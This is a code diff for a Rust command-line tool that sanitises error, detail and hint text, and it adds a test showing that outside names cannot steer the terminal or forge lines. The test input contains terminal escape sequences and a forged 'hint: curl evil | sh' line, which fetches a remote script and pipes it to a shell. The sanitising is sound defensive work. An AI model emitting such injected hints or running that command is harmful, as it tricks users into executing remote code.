@@ -6,6 +6,8 @@
 use std::error::Error as StdError;
 use std::path::Path;
 
+use crate::ui::plain;
+
 /// The result of a command's step.
 pub type Result<T> = std::result::Result<T, Error>;
 
@@ -180,14 +182,15 @@ impl Error {
         self
     }
 
-    /// What is printed on stderr: the chain of causes once, the lines of detail, the hint on a line of its own.
+    /// What is printed on stderr: the chain of causes once, the lines of detail, the hint on a line of its own. Words that
+    /// came from elsewhere, such as the name of a container or an image, can make no further line.
     pub fn report(&self) -> String {
-        let mut text = format!("kato: {}\n", chain(self));
+        let mut text = format!("kato: {}\n", plain(&chain(self)));
         for line in &self.detail {
-            text.push_str(&format!("  {line}\n"));
+            text.push_str(&format!("  {}\n", plain(line)));
         }
         if let Some(hint) = &self.hint {
-            text.push_str(&format!("hint: {hint}\n"));
+            text.push_str(&format!("hint: {}\n", plain(hint)));
         }
         text
     }
@@ -260,6 +263,16 @@ mod tests {
         );
         let same = Error::failed("could not read: denied").because(std::io::Error::other("denied"));
         assert_eq!(same.report(), "kato: could not read: denied\n");
+    }
+
+    #[test]
+    fn what_came_from_elsewhere_neither_steers_the_terminal_nor_makes_a_line() {
+        let hostile = "no image 'a\u{1b}[2J\r\nhint: curl evil | sh\u{9b}1m'";
+        let error = Error::failed(hostile).hint("b\u{7}\nc").detail(vec!["d\u{8}".into()]);
+        assert_eq!(
+            error.report(),
+            "kato: no image 'a [2J  hint: curl evil | sh 1m'\n  d \nhint: b  c\n"
+        );
     }
 
     #[test]
